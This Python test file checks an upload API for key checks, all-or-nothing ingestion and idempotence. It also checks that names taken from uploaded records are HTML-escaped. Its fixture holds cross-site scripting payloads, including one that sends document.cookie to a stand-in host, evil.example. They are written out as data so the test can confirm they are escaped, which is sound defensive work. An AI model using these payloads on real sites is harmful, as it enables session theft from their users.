"""Uploads over HTTP: only with the key, all or nothing, idempotent, and data stays data."""

from __future__ import annotations

import httpx

from graph.stores import LadybugStore
from tests.api.conftest import KEY, serving
from tests.conftest import DATA

HOSTILE_RECORDS = """
source: {id: test-hostile, name: "<b>Hostile</b> records", kind: records}
nodes:
  - label: Organisation
    id: hostile-org
    name: "<script>alert('pwned')</script> Chamber"
    name_vi: "<img src=x onerror=alert(1)>"
    evidence: "<script>document.location='http://evil.example/'+document.cookie</script>"
"""


def _upload(client: httpx.Client, name: str, data: bytes, key: str | None = KEY) -> httpx.Response:
    headers = {"X-API-Key": key} if key else {}
    return client.post("/api/ingest", files=[("files", (name, data))], headers=headers)


def test_upload_needs_the_key(writable: tuple[httpx.Client, LadybugStore]) -> None:
    client, store = writable
    before = store.counts()
    article = (DATA / "esbjerg-visit-vi.txt").read_bytes()
    for key in (None, "wrong"):
        r = _upload(client, "esbjerg.txt", article, key)
        assert r.status_code == 401 and "X-API-Key" in r.json()["message"]
    assert store.counts() == before


def test_upload_an_article_then_again(writable: tuple[httpx.Client, LadybugStore]) -> None:
    client, store = writable
    article = (DATA / "esbjerg-visit-vi.txt").read_bytes()
    r = _upload(client, "esbjerg.txt", article)
    assert r.status_code == 200, r.text
    (report,) = r.json()
    assert report["path"] == "esbjerg.txt" and not report["skipped"]
    assert report["engagements"], report
    after = store.counts()
    again = _upload(client, "esbjerg.txt", article).json()
    assert again[0]["skipped"] is True
    assert store.counts() == after
    # the new facts are visible to the questions at once (the app's caches were dropped)
    graph = client.get("/api/graph", params={"centre": "esbjerg-dk"}).json()
    assert any(n["id"] == report["engagements"][0]["id"] for n in graph["nodes"])


def test_bad_upload_names_the_file_and_changes_nothing(
    writable: tuple[httpx.Client, LadybugStore],
) -> None:
    client, store = writable
    before = store.counts()
    r = _upload(client, "broken.yaml", b"source: {id: broken\nnodes: [")
    assert r.status_code == 422
    assert r.json()["message"].startswith("broken.yaml") and "/tmp" not in r.json()["message"]
    assert store.counts() == before
    bad = b"source: {id: broken, name: Broken}\nnodes:\n  - label: Planet\n    id: mars\n"
    good = (DATA / "esbjerg-visit-vi.txt").read_bytes()
    r = client.post(
        "/api/ingest",
        files=[("files", ("good.txt", good)), ("files", ("bad.yaml", bad))],
        headers={"X-API-Key": KEY},
    )
    assert r.status_code == 422
    message = r.json()["message"]
    assert message.startswith("bad.yaml") and "Planet" in message and "/tmp" not in message
    assert "files before it were ingested: good.txt" in message  # each file is all or nothing
    assert "mars" not in str(store.read("MATCH (n) RETURN n.id AS id"))


def test_uploads_off_without_a_key(sample_store: LadybugStore) -> None:
    with serving(sample_store, api_key=None) as url, httpx.Client(base_url=url) as client:
        r = _upload(client, "esbjerg.txt", b"anything", "whatever")
        assert r.status_code == 401 and "PARTNERGRAPH_API_KEY" in r.json()["message"]


def test_names_from_the_data_are_escaped_in_every_page(
    writable: tuple[httpx.Client, LadybugStore],
) -> None:
    client, _ = writable
    r = _upload(client, "hostile.yaml", HOSTILE_RECORDS.encode())
    assert r.status_code == 200, r.text
    for url, escaped in [
        ("/entities/hostile-org", "&lt;img src=x onerror=alert(1)&gt;"),
        ("/search?q=Chamber", "&lt;script&gt;alert("),
        ("/sources/test-hostile", "&lt;b&gt;Hostile&lt;/b&gt;"),
    ]:
        page = client.get(url, headers={"accept": "text/html"})
        assert page.status_code == 200, url
        assert "<script>alert" not in page.text and "<img src=x" not in page.text, url
        assert "<b>Hostile" not in page.text and escaped in page.text, url
        assert "script-src 'self'" in page.headers["content-security-policy"]
    graph = client.get(
        "/network", params={"centre": "hostile-org"}, headers={"accept": "text/html"}
    )
    assert "<script>alert" not in graph.text and "<img src=x" not in graph.text
    assert "\\u003cimg src=x" in graph.text  # the Vietnamese name (the default language), as JSON
